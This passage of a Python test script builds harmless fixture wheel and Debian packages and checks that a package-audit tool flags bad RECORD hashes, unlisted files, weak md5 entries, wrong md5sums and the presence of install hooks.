rc, j, _ = diff(wheel(os.path.join(work, "mini-1.0-py3-none-any.whl"), wfiles), wsrc)
si = [f for f in j["findings"] if f["class"] == "SELF_INTEGRITY"] if j else []
check("wheel RECORD: verifies, MATCH", rc == 0 and len(si) == 1 and si[0]["severity"] == "ok", si)
rc, j, _ = diff(wheel(os.path.join(work, "w2.whl"), wfiles, extra={"mini/extra.py": b"import os\n"}), wsrc)
check("wheel RECORD: an unlisted file is SELF_INTEGRITY high",
      any(f["class"] == "SELF_INTEGRITY" and f["severity"] == "high" and f["path"] == "mini/extra.py"
          for f in j["findings"]), j and j["findings"])
bad_rec = "".join(record_line(n, d if n != "mini/__init__.py" else b"X = 2\n") for n, d in wfiles.items())
rc, j, _ = diff(wheel(os.path.join(work, "w3.whl"), wfiles, record=bad_rec), wsrc)
check("wheel RECORD: a wrong hash is SELF_INTEGRITY high",
      any(f["class"] == "SELF_INTEGRITY" and f["severity"] == "high" and "SHA-256" in f["detail"] for f in j["findings"]),
      j and j["findings"])
weak = "mini/__init__.py,md5=abc,6\n" + "".join(record_line(n, d) for n, d in wfiles.items() if n != "mini/__init__.py")
rc, j, _ = diff(wheel(os.path.join(work, "w4.whl"), wfiles, record=weak), wsrc)
check("wheel RECORD: md5 is refused", any(f["class"] == "SELF_INTEGRITY" and "md5" in f["detail"] for f in j["findings"]),
      j and j["findings"])


def tar_bytes(files, compress):
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w", format=tarfile.GNU_FORMAT) as t:
        for n, (d, mode) in files.items():
            ti = tarfile.TarInfo("./" + n)
            ti.size, ti.mode = len(d), mode
            t.addfile(ti, io.BytesIO(d))
    return gzip.compress(raw.getvalue()) if compress == "gz" else lzma.compress(raw.getvalue())


def mkdeb(path, data, sums=None):
    md5 = "".join("%s  %s\n" % (hashlib.md5(d).hexdigest(), n) for n, (d, _) in data.items())
    control = {"control": (b"Package: mini\nVersion: 1.0\n", 0o644), "postinst": (b"#!/bin/sh\nset -e\n", 0o755),
               "md5sums": ((sums if sums is not None else md5).encode(), 0o644)}
    ar_write(path, [("debian-binary", b"2.0\n"), ("control.tar.gz", tar_bytes(control, "gz")),
                    ("data.tar.xz", tar_bytes(data, "xz"))])
    return path


ddata = {"usr/bin/mini": (b"#!/bin/sh\necho mini\n", 0o755), "usr/share/doc/mini/README": (b"mini\n", 0o644)}
empty = os.path.join(work, "empty")
os.makedirs(empty)
rc, j, _ = diff(mkdeb(os.path.join(work, "mini_1.0_all.deb"), ddata), empty)
si = [f for f in j["findings"] if f["class"] == "SELF_INTEGRITY"] if j else []
check("deb: eco deb, md5sums verifies", j and j["package"]["eco"] == "deb" and len(si) == 1 and si[0]["severity"] == "ok",
      (j and j["package"], si))
check("deb: postinst is HOOK_PRESENT", j and any(f["class"] == "HOOK_PRESENT" and f["path"] == "postinst"
                                                 for f in j["findings"]), j and classes(j))
wrong = "%s  usr/bin/mini\n%s  usr/share/doc/mini/README\n" % ("0" * 32, hashlib.md5(b"mini\n").hexdigest())
rc, j, _ = diff(mkdeb(os.path.join(work, "mini_bad.deb"), ddata, sums=wrong), empty)
check("deb: a wrong MD5 is SELF_INTEGRITY high", j and any(f["class"] == "SELF_INTEGRITY" and f["severity"] == "high" and
                                                           f["path"] == "usr/bin/mini" for f in j["findings"]),
      j and j["findings"])

shutil.rmtree(work)
finish()
